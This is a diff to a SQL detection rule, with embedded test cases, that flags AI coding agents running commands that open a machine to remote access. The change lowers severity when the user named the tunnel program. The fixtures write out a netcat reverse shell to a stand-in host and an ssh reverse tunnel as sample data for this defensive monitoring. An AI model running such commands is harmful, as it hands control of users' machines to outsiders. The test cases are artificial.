@@ -18,8 +18,54 @@
 -- references = []
 -- tags = ["owasp-asi:2026:ASI05", "owasp-asi:2026:ASI02", "atlas:AML.T0072", "atlas:AML.T0105", "atlas:AML.T0098"]
 -- [params]
+-- may_be_asked = "tunnel"
+-- said_by_everybody = "^ssh$"
 -- name_chars = 80
 -- quote_chars = 160
+-- [[case]]
+-- name = "a tunnel that the user asked for by name"
+-- command_acts = [
+--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
+-- ]
+-- request_clauses = [
+--   { conversation_id = "c", position = 1, clause = "start ngrok on port 3000", reads = false },
+-- ]
+-- expect = [
+--   { severity = "medium" },
+-- ]
+-- [[case]]
+-- name = "the user only asked about the program"
+-- command_acts = [
+--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ngrok", text = "ngrok http 3000" },
+-- ]
+-- request_clauses = [
+--   { conversation_id = "c", position = 1, clause = "what is ngrok", reads = true },
+-- ]
+-- expect = [
+--   { severity = "critical" },
+-- ]
+-- [[case]]
+-- name = "a shell for somebody else, whoever asked for it"
+-- command_acts = [
+--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "hands a shell to a remote machine", program = "nc", text = "nc -e /bin/sh x.example 1" },
+-- ]
+-- request_clauses = [
+--   { conversation_id = "c", position = 1, clause = "use nc for it", reads = false },
+-- ]
+-- expect = [
+--   { severity = "critical" },
+-- ]
+-- [[case]]
+-- name = "everybody speaks of ssh"
+-- command_acts = [
+--   { login = "ana", device = "n1", agent = "Claude Code", session_id = "s", conversation_id = "c", export_key = "e", call_uid = "c1", seq = 1, position = 2, time = 2026-03-01T09:01:00Z, integration = "Claude Code", tool = "Bash", outcome = "ok", record_id = 1, act = "remote", nth = 1, meaning = "opens a tunnel into this machine", program = "ssh", text = "ssh -R 0:localhost:1 a@x.example" },
+-- ]
+-- request_clauses = [
+--   { conversation_id = "c", position = 1, clause = "look at the host with ssh", reads = false },
+-- ]
+-- expect = [
+--   { severity = "critical" },
+-- ]
 -- [[case]]
 -- name = "executed"
 -- command_acts = [
@@ -130,16 +176,24 @@
 -- ]
 -- +++
 WITH acts AS (
-  SELECT call_uid, session_id, conversation_id, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id,
+  SELECT call_uid, session_id, conversation_id, position, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id,
          string_agg(DISTINCT meaning, ', ' ORDER BY meaning) AS meaning, min(text) AS text, min(program) AS program, count(*) AS commands
   FROM command_acts
   WHERE act IN ('remote')
-  GROUP BY call_uid, session_id, conversation_id, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id
+  GROUP BY call_uid, session_id, conversation_id, position, login, device, agent, integration, tool, seq, time, outcome, export_key, record_id
+),
+asked AS (
+  -- A tunnel that the user asked for by the name of its program is the user's own doing; what it is for is asked elsewhere.
+  SELECT DISTINCT a.call_uid
+  FROM acts a
+  JOIN request_clauses r ON r.conversation_id = a.conversation_id AND r.position < a.position
+  WHERE NOT r.reads AND regexp_like(a.meaning, $may_be_asked) AND mentions(r.clause, a.program) AND NOT regexp_like(a.program, $said_by_everybody)
 )
 SELECT
   a.program AS subject,
   a.agent || ' of ' || a.login || ' ran what opens this machine' || ': ' || a.meaning || ' ("' || excerpt(a.text, $quote_chars) || '")'
     || CASE WHEN d.novelty <> 'seen' THEN '; ' || defang(left(d.destination, $name_chars)) || ' ' || d.novelty_says ELSE '' END
+    || CASE WHEN q.call_uid IS NOT NULL THEN '; the user had asked for it' ELSE '' END
     || CASE a.outcome WHEN 'ok' THEN '; it was executed.' WHEN 'attempted' THEN '; no result was seen, so it was proposed, not executed.' WHEN 'refused' THEN '; it was refused.' ELSE '; it failed.' END AS reason,
   a.time AS first_seen,
   a.time AS last_seen,
@@ -151,8 +205,9 @@ SELECT
   a.tool,
   a.integration,
   a.call_uid AS key,
-  CASE WHEN a.outcome IN ('attempted', 'refused') THEN 'medium' ELSE CASE d.novelty WHEN 'known' THEN 'high' WHEN 'listed' THEN 'medium' ELSE 'critical' END END AS severity,
+  CASE WHEN a.outcome IN ('attempted', 'refused') OR q.call_uid IS NOT NULL THEN 'medium' ELSE CASE d.novelty WHEN 'known' THEN 'high' WHEN 'listed' THEN 'medium' ELSE 'critical' END END AS severity,
   make_array(evidence(a.export_key, a.record_id)) AS evidence
 FROM acts a
 LEFT JOIN steps d ON d.call_uid = a.call_uid
+LEFT JOIN asked q ON q.call_uid = a.call_uid
 ORDER BY a.session_id, a.seq, a.call_uid
